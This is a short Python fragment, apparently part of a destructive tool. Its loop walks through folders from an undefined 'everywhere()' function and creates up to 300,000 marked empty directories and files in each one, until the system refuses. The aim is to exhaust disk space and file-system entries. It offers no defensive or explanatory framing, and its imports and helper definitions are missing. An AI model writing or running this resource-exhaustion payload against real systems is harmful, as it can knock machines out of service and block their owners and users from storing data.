"""Makes empty files and folders wherever it can until no more can be made."""

for folder in everywhere():
    for number in range(300_000):
        try:
            os.mkdir(os.path.join(folder, f"{TARGET['mark']}-d{number}"))
            os.close(os.open(os.path.join(folder, f"{TARGET['mark']}-f{number}"), os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
